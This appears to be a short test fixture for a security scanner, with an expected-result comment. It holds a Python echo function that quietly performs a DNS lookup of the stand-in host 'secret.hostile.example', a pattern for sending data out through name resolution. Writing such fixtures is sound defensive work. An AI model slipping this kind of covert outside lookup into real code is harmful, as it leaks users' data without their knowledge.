# expect: RV
# tries: to send data out in the name of a host
import socket


def echo(n):
    socket.getaddrinfo("secret.hostile.example", 80)
    return n
